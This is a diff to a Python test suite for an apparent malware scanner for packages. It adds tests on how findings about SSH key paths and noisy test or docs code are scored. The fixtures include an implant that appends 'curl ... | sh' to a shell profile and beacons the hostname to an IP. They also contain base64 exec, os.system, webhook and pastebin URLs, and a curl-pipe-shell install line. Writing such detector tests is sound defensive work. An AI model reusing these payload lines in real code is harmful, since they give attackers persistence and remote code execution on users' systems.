@@ -364,3 +364,20 @@ def test_appending_a_downloader_to_the_shell_profile_still_blocks(rules):
                "    rc.write('curl -s http://203.0.113.7/b | sh &\\n')\n"
                "urllib.request.urlopen('http://203.0.113.7/ping?h=' + os.uname().nodename)\n")
     assert scan({"widgetry/__init__.py": implant}, rules).verdict in BLOCKING
+
+
+def test_one_credential_store_named_in_many_modules_is_one_finding(rules):
+    files = {f"widgetry/{m}.py": f"from pathlib import Path\nDEFAULT_{i} = Path('~', '.ssh', 'id_ed25519').expanduser()\n"
+             for i, m in enumerate(("config", "connection", "public_key", "agent", "known_hosts"))}
+    files["widgetry/__init__.py"] = ""
+    result = scan(files, rules)
+    assert sum(f.points for f in result.findings if f.rule_id == "sig_064") <= 4
+    assert result.verdict in LOW
+
+
+def test_tests_docs_data_and_vendored_code_share_one_small_budget(rules):
+    noisy = "import base64, os\nexec(base64.b64decode(CASE))\nos.system(cmd)\n"
+    files = {"tests/test_loader.py": noisy, "docs/example.py": noisy, "third_party/lib/tool.py": noisy,
+             "widgetry/fixtures.json": '{"hook": "discord.com/api/webhooks/1/x", "paste": "pastebin.com/raw/x"}',
+             "README.md": "Install: curl -sSL https://example.org/i.sh | sh\n", "widgetry/__init__.py": ""}
+    assert scan(files, rules).score <= 5
